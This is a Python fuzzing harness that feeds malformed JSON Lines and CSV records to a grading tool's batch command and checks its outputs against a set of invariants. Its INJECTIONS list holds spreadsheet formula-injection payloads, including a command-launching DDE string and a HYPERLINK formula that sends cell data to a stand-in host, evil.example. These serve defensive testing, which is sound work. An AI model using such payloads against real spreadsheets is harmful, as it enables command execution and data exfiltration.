"""Fuzzing `epa compare --batch`: a cohort of valid and mutated lines, the real command run on it in every
output format, and the invariants its outputs must hold (issue 16). Used by tests/test_fuzz_batch.py (a few
hundred lines) and bench/fuzz_bench.py (100,000 and more).

A cohort is JSON Lines or CSV, deterministic for a seed: valid records from bench/cohort.py, some mutated
(:data:`MUTATIONS`), blank lines between some. Each record is planted with the line it starts on and what it
must come to: graded (a valid record, however odd its id), an error row, or either (a value whose verdict the
bounds decide), so a failure names the invariant, the format, the line and the mutation. With ``hooks`` a body
plugin, "fuzzhooks", is installed for the child processes (a dist-info folder on PYTHONPATH): its
``gateway_requirements`` hook raises, calls sys.exit, returns a wrong type or prints to stdout on the records
whose apprentice id says so.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import IO, Any, NamedTuple, cast

import attrs
import msgspec

sys.path.insert(0, str(Path(__file__).resolve().parent))

from cohort import records  # noqa: E402

from epa.registry import Registry  # noqa: E402

GRADED, ERROR, EITHER = "graded", "error", "either"
PLUGIN = "fuzzhooks"
PRINTED = "FUZZ-HOOK-PRINTED"  # what the misbehaving hook prints: it must never reach epa's output
MIB = 1 << 20
INJECTIONS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              '=HYPERLINK("http://evil.example/?x="&A1,"click")')
FORMATS = {"json": ("--format", "json", "--summary"), "csv": ("--format", "csv"),
           "summary-only": ("--format", "json", "--summary-only"), "table": ("--format", "table")}


# --- the cohort ----------------------------------------------------------------------------------------------

class Planted(NamedTuple):
    """One record of the cohort: the line it starts on, the apprentice id it shows when graded, the mutation
    ("valid" for none) and what it must come to in a run without the hooks plugin and with it."""

    line: int
    apprentice: str
    mutation: str
    expect: str
    expect_hooked: str


@attrs.frozen
class Cohort:
    path: Path
    kind: str  # "jsonl" | "csv"
    planted: tuple[Planted, ...]
    lines: int  # physical lines in the file

    def expect(self, hooks: bool) -> dict[int, Planted]:
        return {p.line: p._replace(expect=p.expect_hooked if hooks else p.expect) for p in self.planted}


RAW = "@@RAW@@"  # stands for raw bytes in a serialised record until they replace it


@attrs.frozen
class Writer:
    """Serialises a record as one line of the cohort: a JSON line, or a CSV row under ``header``."""

    kind: str
    header: tuple[str, ...] = ()

    def __call__(self, data: dict[str, Any], *, criteria: str = ";") -> bytes:
        if self.kind == "jsonl":
            return json.dumps(data, separators=(",", ":")).encode()
        return csv_row(data, self.header, criteria)

    def raw(self, data: dict[str, Any], raw: bytes, *, whole: bool = False) -> bytes:
        """The record with RAW (a whole value when ``whole``, else inside a string) replaced by ``raw``."""
        mark = b'"' + RAW.encode() + b'"' if whole and self.kind == "jsonl" else RAW.encode()
        return self(data).replace(mark, raw)


Make = Callable[[dict[str, Any], random.Random, Writer], "bytes | None"]  # a mutation: record, rng -> line


@attrs.frozen
class Mutation:
    name: str
    kinds: tuple[str, ...]
    expect: str  # in a JSON Lines cohort (and a CSV one, unless expect_csv says otherwise)
    make: Make  # the mutated line; None where the mutation does not apply to the record
    expect_csv: str | None = None
    big: bool = False  # a line of a MiB or more: a few per cohort

    def expected(self, kind: str) -> str:
        return self.expect_csv if kind == "csv" and self.expect_csv else self.expect


def _setter(path: tuple[Any, ...]) -> Callable[[dict[str, Any], Any], None]:
    def put(data: dict[str, Any], value: Any) -> None:
        _get(data, path[:-1])[path[-1]] = value
    return put


def _get(data: Any, path: tuple[Any, ...]) -> Any:
    for part in path:
        data = data[part]
    return data


def _has(data: Any, path: tuple[Any, ...]) -> bool:
    try:
        _get(data, path)
    except (KeyError, IndexError, TypeError):
        return False
    return True


def _id(data: dict[str, Any], suffix: str) -> None:
    data["apprentice"]["id"] += suffix


def _pick(rng: random.Random, data: dict[str, Any], w: Writer, where: dict[str, tuple[Any, ...]]) -> tuple[Any, ...]:
    """One of the paths a mutation may touch, among those the record has (and a CSV row can hold)."""
    found = [p for k, p in where.items() if (w.kind == "jsonl" or not k.startswith("jsonl:")) and _has(data, p[:-1])]
    return rng.choice(found)


DATES = {"gateway": ("gateway", "date"), "planning": ("dates", "planning_meeting"),
         "attempt": ("assessments", 0, "date"), "jsonl:notified": ("assessments", 0, "notified")}
NUMBERS = {"pieces": ("gateway", "portfolio_pieces"), "words": ("gateway", "project_proposal_words"),
           "jsonl:duration": ("assessments", 0, "duration_minutes"), "jsonl:report": ("assessments", -1, "words")}


def _changed(change: Callable[[dict[str, Any], random.Random, Writer], Any]) -> Make:
    """A mutation that changes values, the record then written as it is."""
    def make(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes:
        change(data, rng, w)
        return w(data)
    return make


def _date(day: str) -> Make:
    return _changed(lambda d, r, w: _setter(_pick(r, d, w, DATES))(d, day))


def _huge(data: dict[str, Any], rng: random.Random, w: Writer) -> None:
    _setter(_pick(rng, data, w, NUMBERS))(data, int("9" * 400) if w.kind == "jsonl" else "9" * 400)


def _nan(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes:
    data["gateway"]["portfolio_pieces"] = RAW
    return w.raw(data, rng.choice([b"NaN", b"Infinity", b"-Infinity", b"1e999"]), whole=True)


def _raw_in_id(choices: list[bytes]) -> Make:
    def make(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes:
        _id(data, RAW)
        return w.raw(data, rng.choice(choices))
    return make


def _truncated(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes | None:
    text = w(data)
    if w.kind == "csv" and b'"' in text:
        return None  # a cut inside quotes would run on into the next lines: another count of records
    return text[:rng.randrange(1, len(text))]


def _deep(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes:
    depth = rng.choice([65, 1000, 20_000])
    data["apprentice"]["x"] = RAW
    return w.raw(data, b"[" * depth + b"]" * depth, whole=True)


def _multiline_criteria(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes | None:
    """A criteria cell quoted over several lines, holding the same criteria: the record is valid."""
    if not any(len(a.get("criteria_met", ())) > 1 for a in _first_attempts(data).values()):
        return None
    return w(data, criteria=";\n")


def _multiline_id(lines: int, width: int) -> Make:
    """An id quoted over many lines of ``width`` dots."""
    return _changed(lambda d, r, w: _id(d, "".join(f"\nline {i} " + "." * width for i in range(lines))))


def _hook(how: str) -> Make:
    """A valid record whose id tells the hooks plugin how to misbehave."""
    def make(data: dict[str, Any], rng: random.Random, w: Writer) -> bytes | None:
        if data["standard"] != "ST0071":
            return None  # the hooks plugin offers ST0071 alone
        data["apprentice"]["id"] = f"HOOK-{how}-" + data["apprentice"]["id"]
        return w(data)
    return make


BOTH, JSONL, CSV = ("jsonl", "csv"), ("jsonl",), ("csv",)
MUTATIONS = (
    Mutation("surrogate_key", JSONL, EITHER, _changed(lambda d, r, w: d.update({"x\ud800": 1}))),
    # JSON: a \ud800 escape; CSV: its bytes, which are no UTF-8
    Mutation("surrogate_value", BOTH, EITHER, _changed(lambda d, r, w: _id(d, "\ud800")), expect_csv=ERROR),
    Mutation("far_date_9999", BOTH, EITHER, _date("9999-12-31")),
    Mutation("far_date_0001", BOTH, EITHER, _date("0001-01-01")),
    Mutation("huge_number", BOTH, EITHER, _changed(_huge)),
    Mutation("nan", BOTH, ERROR, _nan, expect_csv=EITHER),  # (a CSV cell "NaN" is text)
    Mutation("control_escaped", BOTH, EITHER,
             _changed(lambda d, r, w: _id(d, r.choice(["\x00", "\r", "\x1b[2J", "\x07", "\n", "\t=1+1"])))),
    Mutation("control_raw", JSONL, ERROR, _raw_in_id([b"\x00", b"\x1b[2J", b"\x01"])),
    Mutation("truncated", BOTH, ERROR, _truncated, expect_csv=EITHER),
    Mutation("duplicate_key", JSONL, ERROR, lambda d, r, w: b'{"standard":"ST0071",' + w(d)[1:]),
    Mutation("deep_nesting", JSONL, ERROR, _deep),
    Mutation("invalid_utf8", BOTH, ERROR, _raw_in_id([b"\xff", b"\xc3\x28", b"\xe2\x82", b"\xc0\xaf"])),
    Mutation("over_1mib", BOTH, ERROR, _changed(lambda d, r, w: _id(d, "x" * (MIB + 10))), big=True),
    Mutation("csv_injection", BOTH, GRADED, _changed(lambda d, r, w: d["apprentice"].update(id=r.choice(INJECTIONS)))),
    Mutation("not_a_record", JSONL, ERROR,
             lambda d, r, w: r.choice([b"[]", b"42", b'"A-1"', b"null", b"{}", b"true", b"{"])),
    Mutation("crlf_line_end", BOTH, GRADED, lambda d, r, w: w(d) + b"\r"),
    Mutation("stray_quote", CSV, GRADED, _changed(lambda d, r, w: _id(d, '"' + "x" * r.randrange(3)))),
    Mutation("multiline_criteria", CSV, GRADED, _multiline_criteria),
    Mutation("multiline_id", CSV, EITHER, _multiline_id(40, 40)),
    Mutation("multiline_over_1mib", CSV, ERROR, _multiline_id(1100, 1000), big=True),
    Mutation("too_many_cells", CSV, ERROR, lambda d, r, w: w(d) + b",x,y"),
    Mutation("hook_raise", BOTH, GRADED, _hook("RAISE")),
    Mutation("hook_exit", BOTH, GRADED, _hook("EXIT")),
    Mutation("hook_wrong_type", BOTH, GRADED, _hook("WRONG")),
    Mutation("hook_print", BOTH, GRADED, _hook("PRINT")),
)
# With the hooks plugin installed, a hook's failure is its record's error row (naming the plugin); a print is
# fenced off, and whether the record is graded is the fence's to say.
HOOKED = {"hook_raise": ERROR, "hook_exit": ERROR, "hook_wrong_type": ERROR, "hook_print": EITHER}
BLANKS = (b"", b"   ", b"\t", b"\r")  # lines that hold no record


# CSV columns: the record's core, some gateway fields and journey dates, then each method's cells.
CSV_FIELDS = {"standard": ("standard",), "apprentice": ("apprentice", "id"),
              "date_of_birth": ("apprentice", "date_of_birth"), "start_date": ("apprentice", "start_date"),
              "english": ("apprentice", "english"), "maths": ("apprentice", "maths"),
              "gateway_date": ("gateway", "date"), "portfolio_pieces": ("gateway", "portfolio_pieces"),
              "project_proposal_words": ("gateway", "project_proposal_words"), "photo_id": ("gateway", "photo_id"),
              "gateway_form": ("gateway", "gateway_form"), "portfolio": ("gateway", "portfolio"),
              "registered": ("dates", "registered"), "planning_meeting": ("dates", "planning_meeting")}


def csv_header(registry: Registry) -> tuple[str, ...]:
    every = dict.fromkeys(m for s in registry.defined_standards() for m in s.method_ids)
    return (*CSV_FIELDS, *(f"{m}{suffix}" for m in every for suffix in ("", "_criteria", "_date")))


def _first_attempts(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Each method's first attempt: a CSV row holds one attempt per method."""
    found: dict[str, dict[str, Any]] = {}
    for attempt in data["assessments"]:
        found.setdefault(attempt["method"], attempt)
    return found


def csv_row(data: dict[str, Any], header: tuple[str, ...], criteria: str = ";") -> bytes:
    """A record as a CSV row, quoted as the csv module quotes but for a cell holding a quote and no comma or
    line break, which is left unquoted (the stray quote of issue 16)."""
    cells = {name: ("true" if value else "false") if isinstance(value, bool) else str(value)
             for name, path in CSV_FIELDS.items() if _has(data, path) for value in [_get(data, path)]}
    for method, attempt in _first_attempts(data).items():
        cells[f"{method}_date"] = attempt["date"]
        if attempt.get("criteria_met"):
            cells[f"{method}_criteria"] = criteria.join(attempt["criteria_met"])
        else:
            cells[method] = attempt.get("grade", "fail")
    row = (cells.get(name, "") for name in header)
    return ",".join('"' + c.replace('"', '""') + '"' if re.search(r'[,\r\n]|^"', c) else c
                    for c in row).encode("utf-8", "surrogatepass")


def _valid_records(registry: Registry, seed: int) -> Iterator[dict[str, Any]]:
    """Valid records (bench/cohort.py's), ST0071 mostly, ST0072 one in ten where a body offers it."""
    st0071 = records(registry, 10**9, seed=seed)
    st0072 = records(registry, 10**9, standard="ST0072", seed=seed + 1) if "ST0072" in registry.standards() \
        else st0071
    rng = random.Random(seed)
    while True:
        yield next(st0072 if rng.random() < 0.1 else st0071)


def write_cohort(path: Path, registry: Registry, n: int, *, seed: int = 16, mutated: float = 0.3,
                 big: int = 2, only: str | None = None) -> Cohort:
    """n records as JSON Lines (``path`` ending .jsonl) or CSV (.csv): ``mutated`` of them mutated, each usable
    mutation (or ``only`` the one named) in turn, in a shuffled order, at most ``big`` lines of a MiB or more;
    blank lines between some."""
    kind = "csv" if path.suffix == ".csv" else "jsonl"
    rng = random.Random(seed)
    usable = [m for m in MUTATIONS if kind in m.kinds and only in (None, m.name)]
    w = Writer(kind, csv_header(registry) if kind == "csv" else ())
    turn: list[Mutation] = []
    planted, line, bigs = [], 1, 0
    with path.open("wb") as out:
        if kind == "csv":
            out.write(",".join(w.header).encode() + b"\n")
            line += 1
        for i, data in zip(range(n), _valid_records(registry, seed), strict=False):
            while rng.random() < 0.03:
                out.write(rng.choice(BLANKS) + b"\n")
                line += 1
            data["apprentice"]["id"] = f"A-{i:07d}"
            mutation, text = None, None
            if rng.random() < mutated:
                turn = turn or rng.sample(usable, len(usable))
                mutation = turn.pop()
                if not (mutation.big and bigs >= big):
                    data = json.loads(json.dumps(data))
                    text = mutation.make(data, rng, w)
                    bigs += bool(text is not None and mutation.big)
            if text is None:
                mutation, text = None, w(data)
            out.write(text + b"\n")
            name, expect = (mutation.name, mutation.expected(kind)) if mutation else ("valid", GRADED)
            planted.append(Planted(line, data["apprentice"]["id"], name, expect, HOOKED.get(name, expect)))
            line += len(LINE_END.findall(text + b"\n"))
    return Cohort(path, kind, tuple(planted), line - 1)


# What ends a line in a cohort (README, "Reading CSV"): a quoted CSV cell holding a bare "\r" spans two lines.
LINE_END = re.compile(rb"\r\n|\r|\n")


# --- the hooks plugin ----------------------------------------------------------------------------------------

PLUGIN_SOURCE = '''"""{base}'s rules, and a gateway_requirements hook that misbehaves as the record's id says."""
import sys
from importlib.metadata import entry_points

import attrs

import epa


@epa.hookimpl
def register_body():
    (base,) = [e for e in entry_points(group="epa") if e.name == {base!r}]
    rules = tuple(attrs.evolve(r, body={plugin!r}) for r in base.load().register_body().rulesets)
    return epa.Body(id={plugin!r}, name="Fuzz hooks", rulesets=rules)


@epa.hookimpl
def gateway_requirements(ruleset, record):
    ident = record.apprentice.id
    if ident.startswith("HOOK-RAISE"):
        raise RuntimeError("fuzzhooks raised on purpose")
    if ident.startswith("HOOK-EXIT"):
        sys.exit(3)
    if ident.startswith("HOOK-WRONG"):
        return "not a list of requirements"
    if ident.startswith("HOOK-PRINT"):
        print({printed!r})
    return []
'''


def install_hooks(folder: Path, registry: Registry) -> dict[str, str]:
    """Write the hooks plugin (reusing the rules of an installed body offering ST0071, Highfield's where it is
    installed) as a distribution in ``folder``; return the environment a child process sees it in."""
    offering = [b.body.id for b in registry.offering("ST0071")]
    base = "highfield" if "highfield" in offering else offering[0]
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"epa_{PLUGIN}.py").write_text(PLUGIN_SOURCE.format(base=base, plugin=PLUGIN, printed=PRINTED))
    info = folder / f"epa_{PLUGIN}-0.1.dist-info"
    info.mkdir(exist_ok=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: epa-{PLUGIN}\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text(f"[epa]\n{PLUGIN} = epa_{PLUGIN}\n")
    env = {"PYTHONPATH": os.pathsep.join(filter(None, [str(folder), os.environ.get("PYTHONPATH")]))}
    if os.environ.get("EPA_BODIES", "").strip():
        env["EPA_BODIES"] = os.environ["EPA_BODIES"] + "," + PLUGIN
    return env


# --- running the command -------------------------------------------------------------------------------------

class Verdict(NamedTuple):
    """What the output says of one record: the apprentice's id, each body's overall grade ("" for none), or
    None and the error's text."""

    apprentice: str | None
    grades: tuple[tuple[str, str], ...] | None
    error: str = ""


@attrs.define
class Seen:
    """What one run wrote: a verdict per line (JSON and CSV), the summary's counts, what was not an output
    line, and a digest of stdout."""

    verdicts: dict[int, Verdict] = attrs.Factory(dict)
    repeated: list[int] = attrs.Factory(list)
    counts: tuple[int, int, int] | None = None  # records read, results written, errors
    bad: list[str] = attrs.Factory(list)
    injected: list[str] = attrs.Factory(list)  # CSV cells a spreadsheet would run as a formula
    digest: str = ""

    def add(self, line: int, verdict: Verdict) -> None:
        if line in self.verdicts:
            self.repeated.append(line)
        self.verdicts[line] = verdict


@attrs.frozen
class Run:
    fmt: str
    workers: int
    code: int | None  # None: killed after the timeout
    seen: Seen
    stderr: str
    seconds: float

    @property
    def label(self) -> str:
        return f"{self.fmt} --workers {self.workers}"


class _Result(msgspec.Struct):
    body: str
    overall: str | None = None


class _Summary(msgspec.Struct):
    records_read: int
    results_written: int
    errors: int


class _JsonLine(msgspec.Struct):
    line: int | None = None
    apprentice: str | None = None
    results: list[_Result] | None = None
    error: dict[str, Any] | None = None
    summary: _Summary | None = None


def _json(stream: IO[bytes], seen: Seen, digest: Any) -> None:
    decode = msgspec.json.Decoder(_JsonLine).decode
    for number, raw in enumerate(stream, 1):
        digest.update(raw)
        try:
            row = decode(raw)
        except msgspec.DecodeError:  # msgspec refuses a lone surrogate's escape, which JSON's grammar allows
            try:
                row = msgspec.convert(json.loads(raw), _JsonLine)
            except (ValueError, msgspec.ValidationError) as exc:
                seen.bad.append(f"output line {number} is not a batch line ({exc}): {raw[:80]!r}")
                continue
        except msgspec.ValidationError as exc:
            seen.bad.append(f"output line {number} is not a batch line ({exc}): {raw[:80]!r}")
            continue
        if row.summary is not None:
            seen.counts = (row.summary.records_read, row.summary.results_written, row.summary.errors)
        elif row.line is None or (row.results is None) == (row.error is None):
            seen.bad.append(f"output line {number} is neither a result, an error nor the summary: {raw[:80]!r}")
        elif row.results is not None:
            seen.add(row.line, Verdict(row.apprentice, tuple((r.body, r.overall or "") for r in row.results)))
        else:
            seen.add(row.line, Verdict(None, None, json.dumps(row.error)))


FORMULA = ("=", "+", "-", "@", "\t", "\r")  # a cell starting so runs as a formula in a spreadsheet (OWASP)


def _csv(stream: IO[bytes], seen: Seen, digest: Any) -> None:
    data = stream.read()
    digest.update(data)
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as exc:
        seen.bad.append(f"the CSV output is not UTF-8 ({exc})")
        text = data.decode("utf-8", "replace")
    rows = csv.reader(io.StringIO(text, newline=""))
    header = next(rows, [])
    at = {name: i for i, name in enumerate(header)}
    if not {"line", "apprentice", "body", "overall", "error"} <= set(at):
        seen.bad.append(f"the CSV header lacks a column: {header}")
        return
    current, grades, error, ident = None, [], "", None
    for number, row in enumerate(rows, 2):
        if len(row) != len(header):
            seen.bad.append(f"CSV row {number} has {len(row)} cells, the header {len(header)}: {row[:3]}")
            continue
        seen.injected.extend(f"CSV row {number}: {cell[:40]!r}" for cell in row if cell.startswith(FORMULA))
        try:
            line = int(row[at["line"]])
        except ValueError:
            seen.bad.append(f"CSV row {number}: line {row[at['line']]!r} is not a number")
            continue
        if line != current:
            if current is not None:
                seen.add(current, Verdict(ident, tuple(grades) if not error else None, error))
            current, grades, error, ident = line, [], "", _unescaped(row[at["apprentice"]])
        body = row[at["body"]]
        if error or ((row[at["error"]] or not body) and grades) or any(b == body for b, _ in grades):
            seen.repeated.append(line)  # a record is one row per body, or one error row: two records here
        if row[at["error"]] or not body:
            error = row[at["error"]] or "(an empty row)"
        else:
            grades.append((body, row[at["overall"]]))
    if current is not None:
        seen.add(current, Verdict(ident, tuple(grades) if not error else None, error))


def _unescaped(cell: str) -> str:
    """An id as given: OWASP's escape of a formula (a leading ') undone."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in FORMULA else cell


# The table's summary: "N records read, N graded, N rejected", then ", N failed in <plugin> <hook>" for each
# plugin that failed on some record (those records are errors too).
COUNTED = re.compile(rb"([\d,]+) records read\D+([\d,]+) graded\D+([\d,]+) rejected((?:, [\d,]+ failed in [^,\n]+)*)")
FAILED = re.compile(rb", ([\d,]+) failed in ")


def _table(stream: IO[bytes], seen: Seen, digest: Any) -> None:
    data = stream.read()
    digest.update(data)
    found = COUNTED.search(data)
    if found:
        read, graded, rejected = (int(n.replace(b",", b"")) for n in found.groups()[:3])
        failed = sum(int(n.replace(b",", b"")) for n in FAILED.findall(found.group(4)))
        seen.counts = (read, graded, rejected + failed)
    if PRINTED.encode() in data:
        seen.bad.append("a hook's print reached stdout")


READERS = {"json": _json, "csv": _csv, "summary-only": _json, "table": _table}


def run_batch(cohort: Cohort, fmt: str, workers: int, env: dict[str, str], timeout: float) -> Run:
    """`epa compare --batch` on the cohort in a child process (its own process group, killed with its workers
    after ``timeout`` seconds), its stdout read as it is written."""
    args = [sys.executable, "-m", "epa", "compare", "--batch", str(cohort.path), *FORMATS[fmt],
            "--workers", str(workers)]
    return _run(args, env, timeout, READERS[fmt], fmt, workers)


def _run(args: list[str], env: dict[str, str], timeout: float, read: Callable[[IO[bytes], Seen, Any], None],
         fmt: str, workers: int) -> Run:
    seen, digest = Seen(), hashlib.sha256()
    killed = threading.Event()

    def kill() -> None:
        killed.set()
        os.killpg(child.pid, signal.SIGKILL)

    start = time.perf_counter()
    with tempfile.TemporaryFile() as err:
        child = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=err, start_new_session=True,
                                 env={**os.environ, "EPA_DEBUG": "", **env})
        timer = threading.Timer(timeout, kill)
        timer.start()
        try:
            out = cast(IO[bytes], child.stdout)
            read(out, seen, digest)
            out.read()  # what a reader left: the child must not block on a full pipe
            code = child.wait()
        finally:
            timer.cancel()
        err.seek(0)
        stderr = err.read().decode("utf-8", "replace")
    seen.digest = digest.hexdigest()
    return Run(fmt, workers, None if killed.is_set() else code, seen, stderr, time.perf_counter() - start)


# --- the invariants ------------------------------------------------------------------------------------------

@attrs.frozen
class Finding:
    """An invariant a run broke: which (see INVARIANTS), where (the run, the line and its mutation), and how."""

    invariant: str
    where: str
    detail: str
    mutation: str = ""  # of the line, where the finding is about one

    def __str__(self) -> str:
        return f"[{self.invariant}] {self.where}: {self.detail}"


INVARIANTS = {
    "ends": "the run ends by itself (it was killed after the timeout)",
    "exit code": "0 every record graded, 2 some rejected, 1 a plugin failed on some record",
    "stderr": "no Traceback, no internal error",
    "stdout": "every stdout line is an output line: JSON lines parse, CSV rows have the header's cells",
    "csv injection": "no CSV cell starts as a formula (=, +, -, @, tab, CR)",
    "counts": "records read = results written + errors = the records of the cohort",
    "lost": "every record has its output line (result or error)",
    "records": "no output line for a line where no record starts, none twice",
    "graded": "every valid record graded, under its own id",
    "refused": "every record that must be refused is an error row",
    "blame": "a hook's failure names the plugin",
    "formats agree": "json and csv agree line by line (error or graded, each body's overall grade), counts too",
    "workers agree": "--workers 1 and --workers 2 write the same bytes",
    "single run": "epa compare on one record: exit 0 or 2 (1 naming a failing plugin), as its batch line",
}


def _last(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    return lines[-1][:200] if lines else "(nothing on stderr)"


def _verdict(v: Verdict | None) -> str:
    if v is None:
        return "nothing"
    if v.grades is None:
        return f"error {v.error[:100]!r}"
    return "graded " + ", ".join(f"{body} {grade or 'none'}" for body, grade in v.grades)


def expected_exit(cohort: Cohort, hooks: bool, runs: list[Run]) -> tuple[int, ...]:
    """The exit codes the runs may end with: 1 where a hook fails on some record; else 2 where some record must be
    rejected or, being odd, was (in any run: whether the runs agree on it is another invariant); else 0, or 2 where
    odd records that no run got to might be rejected."""
    expected = cohort.expect(hooks).values()
    if any(p.expect == ERROR and p.mutation in HOOKED for p in expected):
        return (1,)
    rejected = any(v.grades is None for r in runs for v in r.seen.verdicts.values()) or any(
        r.seen.counts and r.seen.counts[2] for r in runs)
    if rejected or any(p.expect == ERROR for p in expected):
        return (2,)
    return (0, 2) if any(p.expect == EITHER for p in expected) else (0,)


def check(cohort: Cohort, hooks: bool, runs: list[Run]) -> list[Finding]:
    expected, codes = cohort.expect(hooks), expected_exit(cohort, hooks, runs)
    findings = [f for run in runs for f in _check_run(run, expected, codes)]
    return findings + _agreement(runs, expected)


def _check_run(run: Run, expected: dict[int, Planted], codes: tuple[int, ...]) -> list[Finding]:
    label, seen = run.label, run.seen
    if run.code is None:
        return [Finding("ends", label, f"killed after {run.seconds:.0f} s; stderr: {_last(run.stderr)}")]
    found = [Finding("stdout", label, bad) for bad in seen.bad]
    if run.code not in codes:
        found.append(Finding("exit code", label, f"{run.code}, expected {' or '.join(map(str, codes))}; "
                             f"stderr: {_last(run.stderr)}"))
    found += [Finding("stderr", label, line[:200]) for line in run.stderr.splitlines()
              if "Traceback" in line or "internal error" in line][:1]
    if seen.injected:
        found.append(Finding("csv injection", label, f"{len(seen.injected)} cells, e.g. {seen.injected[0]}"))
    if run.fmt != "csv":
        found += _counts(run, len(expected))
    if run.fmt in ("json", "csv"):
        found += _lines(run, expected)
    return found


def _counts(run: Run, records: int) -> list[Finding]:
    if run.seen.counts is None:
        return [Finding("counts", run.label, "no summary")]
    read, written, errors = run.seen.counts
    found = []
    if read != written + errors:
        found.append(Finding("counts", run.label, f"read {read} != written {written} + errors {errors}"))
    if read != records:
        found.append(Finding("counts", run.label, f"{read} records read; the cohort holds {records}"))
    if run.fmt == "json":
        graded = sum(v.grades is not None for v in run.seen.verdicts.values())
        if (written, errors) != (graded, len(run.seen.verdicts) - graded):
            found.append(Finding("counts", run.label, f"the summary says {written} written and {errors} errors; "
                                 f"the lines show {graded} and {len(run.seen.verdicts) - graded}"))
    return found


def _lines(run: Run, expected: dict[int, Planted]) -> list[Finding]:
    verdicts, found = run.seen.verdicts, []
    for line in sorted(set(verdicts) - set(expected)):
        found.append(Finding("records", f"{run.label}, line {line}", f"no record starts here; the output says "
                             f"{_verdict(verdicts[line])}"))
    found += [Finding("records", f"{run.label}, line {line}", "written twice") for line in run.seen.repeated]
    for p in expected.values():
        where, v = f"{run.label}, line {p.line} ({p.mutation})", verdicts.get(p.line)
        if v is None:
            problem = ("lost", f"no output for this record (exit {run.code}; stderr: {_last(run.stderr)})")
        elif p.expect == GRADED and v.grades is None:
            problem = ("graded", f"a valid record rejected: {v.error[:160]}")
        elif p.expect == GRADED and v.apprentice != p.apprentice:
            problem = ("graded", f"apprentice {v.apprentice!r:.60}, expected {p.apprentice!r:.60}")
        elif p.expect == ERROR and v.grades is not None:
            problem = ("refused", f"{_verdict(v)}, expected an error row")
        elif p.expect == ERROR and p.mutation in HOOKED and PLUGIN not in v.error:
            problem = ("blame", f"the error names no {PLUGIN}: {v.error[:160]}")
        else:
            continue
        found.append(Finding(problem[0], where, problem[1], p.mutation))
    return found


def _agreement(runs: list[Run], expected: dict[int, Planted]) -> list[Finding]:
    done = {(r.fmt, r.workers): r for r in runs if r.code is not None}
    found = []
    for workers in sorted({r.workers for r in runs}):
        json_run, csv_run = done.get(("json", workers)), done.get(("csv", workers))
        if json_run and csv_run:
            a, b = json_run.seen.verdicts, csv_run.seen.verdicts
            for line in sorted(set(a) & set(b)):
                if (a[line].grades is None) != (b[line].grades is None) or (
                        a[line].grades is not None and dict(a[line].grades) != dict(b[line].grades or ())):
                    mutation = expected[line].mutation if line in expected else "no record"
                    found.append(Finding("formats agree", f"--workers {workers}, line {line} ({mutation})",
                                         f"json: {_verdict(a[line])}; csv: {_verdict(b[line])}", mutation))
        counts = {fmt: done[fmt, workers].seen.counts for fmt in ("json", "summary-only", "table")
                  if (fmt, workers) in done}
        if len(set(counts.values())) > 1:
            found.append(Finding("formats agree", f"--workers {workers}", f"counts (read, written, errors): {counts}"))
    for fmt in FORMATS:
        digests = {r.seen.digest for (f, _), r in done.items() if f == fmt}
        if len(digests) > 1:
            found.append(Finding("workers agree", fmt, "stdout differs between --workers 1 and --workers 2"))
    return found


def report(findings: list[Finding], examples: int = 4) -> str:
    """The findings by invariant: how many, by mutation, and the first few (each of another mutation where they
    are about lines: the first valid lines lost say less than the first line of each mutation)."""
    by: dict[str, list[Finding]] = {invariant: [] for invariant in INVARIANTS}
    for f in findings:
        by.setdefault(f.invariant, []).append(f)
    out = []
    for invariant, some in by.items():
        if not some:
            continue
        mutations = Counter(f.mutation for f in some if f.mutation)
        out.append(f"{invariant} ({INVARIANTS[invariant]}): {len(some)}" + (
            "; by mutation: " + ", ".join(f"{m} {n}" for m, n in mutations.most_common()) if mutations else ""))
        first: dict[str, Finding] = {}
        for f in some:
            first.setdefault(f.mutation, f)
        out += [f"    {f.where}: {f.detail}" for f in (list(first.values()) if mutations else some)[:examples]]
    return "\n".join(out)


# --- one record at a time ------------------------------------------------------------------------------------

def _single(stream: IO[bytes], seen: Seen, digest: Any) -> None:
    data = stream.read()
    if not data.strip():
        return
    try:
        out = json.loads(data)
        seen.add(0, Verdict(out["apprentice"], tuple((r["body"], r["overall"] or "") for r in out["results"])))
    except (ValueError, KeyError, TypeError) as exc:
        seen.bad.append(f"stdout is not epa compare's JSON ({type(exc).__name__}): {data[:80]!r}")


def check_single(cohort: Cohort, hooks: bool, sample: list[Planted], folder: Path, env: dict[str, str],
                 batch: Run | None, timeout: float) -> list[Finding]:
    """`epa compare LINE.json --format json` on each sampled line of a JSON Lines cohort: exit 0 or 2 (1 where a
    hook fails, naming the plugin), no traceback, JSON on stdout, and the batch's verdict on the line."""
    lines = cohort.path.read_bytes().split(b"\n")
    expected = cohort.expect(hooks)
    found = []
    for p in sample:
        path = folder / f"line-{p.line}.json"
        path.write_bytes(lines[p.line - 1])
        run = _run([sys.executable, "-m", "epa", "compare", str(path), "--format", "json"], env, timeout, _single,
                   "single", 1)
        where, failing = f"line {p.line} ({p.mutation})", expected[p.line].expect == ERROR and p.mutation in HOOKED
        if run.code is None:
            found.append(Finding("ends", where, f"killed after {run.seconds:.0f} s", p.mutation))
            continue
        if run.code not in ((1,) if failing else (0, 2)) or (failing and PLUGIN not in run.stderr):
            found.append(Finding("single run", where, f"exit {run.code}; stderr: {_last(run.stderr)}", p.mutation))
        found += [Finding("stderr", where, line[:200], p.mutation) for line in run.stderr.splitlines()
                  if "Traceback" in line or "internal error" in line][:1]
        found += [Finding("stdout", where, bad, p.mutation) for bad in run.seen.bad]
